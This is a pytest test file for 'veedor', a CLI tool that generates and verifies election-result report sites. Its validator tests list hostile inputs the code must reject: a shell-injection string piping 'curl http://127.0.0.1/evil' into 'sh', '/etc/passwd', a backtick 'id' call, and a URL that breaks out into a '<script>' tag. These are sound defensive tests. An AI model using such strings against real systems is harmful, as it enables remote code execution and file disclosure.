"""veedor report, verify and demo as a person calls them."""

import json
import shlex
import shutil
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner

from veedor.cli import report
from veedor.dossier.address import address_of
from veedor.dossier.manifest import is_name_in_commands, name_in_commands
from veedor.errors import MissingDataError, VeedorError

RUNNER = CliRunner()


@pytest.fixture
def app() -> typer.Typer:
    made = typer.Typer()
    report.register(made)
    return made


@pytest.mark.slow
def test_report_then_verify_from_where_the_manifest_says(app: typer.Typer, simulated: Path, tmp_path: Path) -> None:
    out = tmp_path / "site"
    simulated = Path(shutil.copytree(simulated, tmp_path / "election"))
    made = RUNNER.invoke(app, ["report", str(simulated), "--data", str(simulated), "--out", str(out), "--json"])
    assert made.exit_code == 0, made.output
    summary = json.loads(made.stdout)
    assert summary["files"] == sum(1 for path in out.rglob("*") if path.is_file())
    assert summary["bytes"] == sum(path.stat().st_size for path in out.rglob("*") if path.is_file())
    same = RUNNER.invoke(app, ["verify", str(out)])
    assert same.exit_code == 0, same.output
    assert "all the same" in same.stdout
    page = out / "en" / "index.html"
    page.write_text(page.read_text(encoding="utf-8").replace("</h1>", "!</h1>"), encoding="utf-8")
    spoiled = RUNNER.invoke(app, ["verify", str(out)])
    assert spoiled.exit_code == 1
    assert "en/index.html, line" in spoiled.stdout
    listed = RUNNER.invoke(app, ["verify", str(out), "--json"])
    assert listed.exit_code == 1
    assert [one["file"] for one in json.loads(listed.stdout)["differences"]] == ["en/index.html"]


@pytest.mark.slow
def test_where_the_raw_files_lie_elsewhere_the_command_that_is_printed_says_so(
    app: typer.Typer, simulated: Path, tmp_path: Path
) -> None:
    out = tmp_path / "site"
    made = RUNNER.invoke(app, ["report", str(simulated), "--data", str(simulated), "--out", str(out)])
    command = made.stdout.splitlines()[-1].removeprefix("check it with: ")
    assert command == f"veedor verify {out} --data {simulated}"
    asked = RUNNER.invoke(app, ["verify", str(out)])
    assert isinstance(asked.exception, VeedorError)
    assert f"leads out of {tmp_path}; say where with --data DIR" in str(asked.exception)
    assert RUNNER.invoke(app, shlex.split(command)[1:]).exit_code == 0


@pytest.mark.parametrize("name", ["-x", "--json", "a\u202eb", "a\nb", "\x1b[2J", "/etc/passwd"])
def test_commands_on_the_pages_name_the_election_by_one_word(name: str) -> None:
    assert name_in_commands(name) == "election.toml"
    assert [name_in_commands(one) for one in ("town", "my town", "a;b", "Potosí")] == [
        "town",
        "my town",
        "a;b",
        "Potosí",
    ]


@pytest.mark.parametrize(
    "text",
    [
        "x; curl http://127.0.0.1/evil | sh #",
        "--data=/etc",
        "/etc/passwd",
        "'town\nveedor: all the same'",
        "'town",
        "town --skip-bad-rows",
        "$HOME",
        "`id`",
        "town#x",
        '"town"',
        "",
        "''",
        "'a\u200bb'",
        "~/x",
    ],
)
def test_verify_takes_no_other_text_for_the_name_of_an_election(text: str) -> None:
    assert not is_name_in_commands(text)


@pytest.mark.slow
def test_a_path_of_this_machine_is_not_written_into_the_pages(
    app: typer.Typer, simulated: Path, tmp_path: Path
) -> None:
    out = tmp_path / "site"
    RUNNER.invoke(app, ["report", str(simulated), "--data", str(simulated), "--out", str(out)])
    text = (out / "en" / "index.html").read_text(encoding="utf-8")
    assert "veedor count election.toml" in text
    assert str(simulated) not in text


def test_data_that_is_not_there_is_said_and_nothing_is_written(
    app: typer.Typer, simulated: Path, tmp_path: Path
) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    out = tmp_path / "site"
    made = RUNNER.invoke(app, ["report", str(simulated), "--data", str(empty), "--out", str(out)])
    assert isinstance(made.exception, MissingDataError)
    assert list(tmp_path.iterdir()) == [empty]


def test_a_folder_of_other_files_is_refused_before_anything_is_read(app: typer.Typer, tmp_path: Path) -> None:
    (tmp_path / "letter.txt").write_text("dear", encoding="utf-8")
    made = RUNNER.invoke(app, ["report", "no-such-election", "--out", str(tmp_path)])
    assert isinstance(made.exception, VeedorError)
    assert "not a dossier" in str(made.exception)


@pytest.mark.slow
def test_the_demo_needs_no_data_and_says_what_to_open(
    app: typer.Typer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(report, "DEMO_STATIONS", 200)
    monkeypatch.chdir(tmp_path)
    for _ in range(2):  # a second run replaces the first
        made = RUNNER.invoke(app, ["demo", "--out", "here"])
        assert made.exit_code == 0, made.output
    assert "here/dossier/index.html" in made.stdout
    assert (tmp_path / "here/dossier/index.html").is_file()
    assert (tmp_path / "here/election/truth.json").is_file()
    assert RUNNER.invoke(app, ["verify", "here/dossier"]).exit_code == 0


@pytest.mark.slow
def test_results_are_what_the_rooms_own_commands_print(simulated: Path, dossier: Path) -> None:
    from veedor.cli import check, count

    rooms = typer.Typer()
    count.register(rooms)
    check.register(rooms)
    for words, name in ((["count", "--by", "region"], "places.json"), (["count"], "count.json")):
        printed = RUNNER.invoke(rooms, [words[0], str(simulated), *words[1:], "--data", str(simulated), "--json"])
        assert printed.exit_code == 0, printed.output
        assert without_files(printed.stdout) == json.loads((dossier / "results" / name).read_text(encoding="utf-8"))
    printed = RUNNER.invoke(
        rooms,
        ["count", str(simulated), "--data", str(simulated), "--count", "preliminary", "--snapshot", "all", "--json"],
    )
    counts = json.loads((dossier / "results" / "timeline.json").read_text(encoding="utf-8"))["counts"]
    assert without_files(printed.stdout) in counts


def without_files(printed: str) -> object:
    """A count's document but for the files that it was made of, which the dossier lists in its manifest."""
    document = json.loads(printed)
    assert document.pop("files")
    return document


@pytest.mark.parametrize(
    ("given", "wanted"),
    [
        ("https://example.org/bolivia", "https://example.org/bolivia/"),
        ("http://localhost:8000/", "http://localhost:8000/"),
    ],
)
def test_an_address_is_that_of_a_folder(given: str, wanted: str) -> None:
    assert address_of(given) == wanted


@pytest.mark.parametrize(
    "given",
    [
        "example.org",
        "ftp://example.org/",
        "https://example.org/a b",
        'https://e.org/"><script>',
        "https://e.org/?q=1",
        "",
    ],
)
def test_no_other_address_is_taken(given: str) -> None:
    with pytest.raises(VeedorError, match=r"--url .* wanted the address of a folder"):
        address_of(given)


@pytest.mark.slow
def test_pages_name_their_own_address_and_verify_follows(app: typer.Typer, simulated: Path, tmp_path: Path) -> None:
    out = tmp_path / "site"
    simulated = Path(shutil.copytree(simulated, tmp_path / "election"))
    words = ["report", str(simulated), "--data", str(simulated), "--out", str(out), "--url", "https://example.org/x"]
    assert RUNNER.invoke(app, words).exit_code == 0
    for lang in ("en", "es"):
        page = (out / lang / "count.html").read_text(encoding="utf-8")
        here = f"https://example.org/x/{lang}"
        assert f'<link rel="canonical" href="{here}/count.html">' in page
        assert f'<meta property="og:url" content="{here}/count.html">' in page
        assert f'<meta property="og:image" content="{here}/card-count.png">' in page
        assert '<meta property="og:description" content="S' in page, "SIMULATED, or SIMULACIÓN"
        assert f"{here}/about.html" in (out / lang / "about.html").read_text(encoding="utf-8")
    assert RUNNER.invoke(app, ["verify", str(out)]).exit_code == 0
